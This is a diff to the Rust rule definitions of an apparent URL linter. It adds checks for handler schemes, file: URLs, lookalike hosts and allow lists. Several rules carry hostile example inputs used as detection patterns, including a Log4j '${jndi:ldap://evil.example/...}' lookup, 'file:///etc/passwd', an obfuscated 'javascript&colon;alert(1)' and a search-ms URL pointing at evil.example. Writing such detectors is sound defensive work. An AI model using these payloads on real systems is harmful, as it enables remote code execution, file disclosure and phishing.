@@ -466,10 +466,10 @@ napkin::rules! {
         code: "scheme-confusion",
         severity: Remark,
         sentence: "it is unclear which part is the scheme",
-        why: "By every standard, `localhost:8080/` and `pub.example:80` have a scheme; curl and people read a host and \
-              a port. `http:/host`, `http:host` and `http//host` are URLs for some programs and paths for others.",
+        why: "`http:/host`, `http:host` and `http//host` are URLs for some programs and paths for others, and so are \
+              texts that begin with a number and a colon.",
         see: &["draft-fielding-url-syntax-05 section 4.1", "RFC 3986 section 4.5", "", "URL Standard section 4.4"],
-        example: Some(Example::new(Rfc3986, "pub.example:8080/menu")),
+        example: Some(Example::new(Rfc3986, "http:/pub.example/menu")),
         ..Record::EMPTY
     };
 
@@ -547,6 +547,129 @@ napkin::rules! {
               refused before anything is sent.",
         see: SEC,
         example: Some(Example::new(Rfc3986, "gopher://pub.example/0menu%0D%0AQUIT")),
+        ..Record::EMPTY
+    };
+
+    UNUSABLE_HOST = Record {
+        code: "unusable-host",
+        severity: Remark,
+        sentence: "the host has characters that no name in DNS has",
+        why: "Programs split such a host at different places, but no reading leads to a host. The text is \
+              probably damaged, for example by quotes of the page around it.",
+        see: NAMES,
+        example: Some(Example::new(Rfc3986, "http://\"pub.example/")),
+        ..Record::EMPTY
+    };
+
+    IDENTIFIER_PARAMETER = Record {
+        code: "identifier-parameter",
+        severity: Remark,
+        sentence: "a parameter names a key or a mark that is often public",
+        why: "Keys of web pages, signatures of limited links and marks of forms are often meant to be public, \
+              but some give access. A value with the form of well-known credentials is another rule.",
+        see: SENSITIVE,
+        example: Some(Example::new(Rfc3986, "https://pub.example/map.js?api_key=menu1234")),
+        ..Record::EMPTY
+    };
+
+    SCRIPT_CALL = Record {
+        code: "script-call",
+        severity: Remark,
+        sentence: "the URL calls a function of its page",
+        why: "The script only calls a function that the page defines, with constant arguments, so it runs \
+              nothing foreign. It does nothing in other programs, and a content security policy forbids it.",
+        see: SCHEMES,
+        example: Some(Example::new(Whatwg, "javascript:showMenu('today')")),
+        ..Record::EMPTY
+    };
+
+    HOST_WITHOUT_SCHEME = Record {
+        code: "host-without-scheme",
+        severity: Remark,
+        sentence: "a host and a port without a scheme",
+        why: "By every standard the host is a scheme here, and curl and people read a host and a port. \
+              Registries of images and some settings use this form.",
+        see: &["draft-fielding-url-syntax-05 section 4.1", "RFC 3986 section 4.5", "", "URL Standard section 4.4"],
+        example: Some(Example::new(Rfc3986, "registry.pub.example:5000")),
+        ..Record::EMPTY
+    };
+
+    BACKSLASH_IN_PATH = Record {
+        code: "backslash-in-path",
+        severity: Remark,
+        sentence: "a backslash between other characters of a path",
+        why: "Browsers read the backslash as a slash, and other programs refuse it or escape it. The host is the \
+              same for all, and the path is not.",
+        see: &["", "RFC 3986 section 7.3", "", "URL Standard section 4.4"],
+        example: Some(Example::new(Rfc3986, "http://pub.example/old\\%20menu")),
+        ..Record::EMPTY
+    };
+
+    HANDLER_SCHEME = Record {
+        code: "handler-scheme",
+        severity: Remark,
+        sentence: "the scheme starts a program or speaks to an unexpected server",
+        why: "Programs register schemes of their own, and their handlers have run commands from a URL: `ms- \
+              msdt:` (CVE-2022-30190), `search-ms:`, `ext::` of Git, `intent:`. Libraries read `rmi:`, `php:` or \
+              `dict:` where only web addresses were expected.",
+        see: SCHEMES,
+        example: Some(Example::new(Rfc3986, "search-ms:query=menu&crumb=location:evil.example")),
+        ..Record::EMPTY
+    };
+
+    FILE_URL = Record {
+        code: "file-url",
+        severity: Remark,
+        sentence: "a `file:` URL names another machine or a file with secrets",
+        why: "Windows sends the credentials of its user to the host of a `file:` URL. A server that retrieves \
+              URLs reads its own files, such as `/etc/passwd`.",
+        see: &["", "RFC 8089 section 4", "", "URL Standard section 4.4"],
+        example: Some(Example::new(Rfc3986, "file:///etc/passwd")),
+        ..Record::EMPTY
+    };
+
+    LOOKUP_EXPRESSION = Record {
+        code: "lookup-expression",
+        severity: Remark,
+        sentence: "the text has an expression that a logging library evaluates",
+        why: "Log4j replaced `${jndi:...}` in every text that it logged by an object from that address, and so \
+              ran foreign code (CVE-2021-44228). Lookups within lookups hide the name from filters.",
+        see: BACK_END,
+        example: Some(Example::new(Rfc3986, "http://pub.example/?q=${jndi:ldap://evil.example/menu}")),
+        ..Record::EMPTY
+    };
+
+    CHARACTER_REFERENCES = Record {
+        code: "character-references",
+        severity: Remark,
+        sentence: "character references of HTML hide a script or a host",
+        why: "A page decodes `javascript&colon;` and `&Tab;` before it follows the URL. A filter that looks at \
+              the text sees neither a scheme nor two slashes.",
+        see: SCHEMES,
+        example: Some(Example::new(Rfc3986, "javascript&colon;alert(1)")),
+        ..Record::EMPTY
+    };
+
+    LOOKALIKE_HOST = Record {
+        code: "lookalike-host",
+        severity: Remark,
+        sentence: "the host looks like a protected name",
+        why: "People take `paypaI.com` or `rnicrosoft.com` for the name that it imitates. The rule compares \
+              hosts with the names that the settings protect.",
+        see: SPOOFING,
+        example: Some(Example::new(Rfc3986, "https://paypaI.com/")),
+        ..Record::EMPTY
+    };
+
+    HOST_NOT_ALLOWED = Record {
+        code: "host-not-allowed",
+        severity: Remark,
+        sentence: "a program goes to a host that the allow list does not have",
+        why: "The settings have an allow list. At least one standard or modelled program goes to another host, \
+              port or scheme, or finds no host. A program that checks the URL by another parser than the client \
+              would admit it.",
+        see: MALICIOUS,
+        example: Some(Example::new(Rfc3986, "https://evil.example/")),
         ..Record::EMPTY
     };
 }
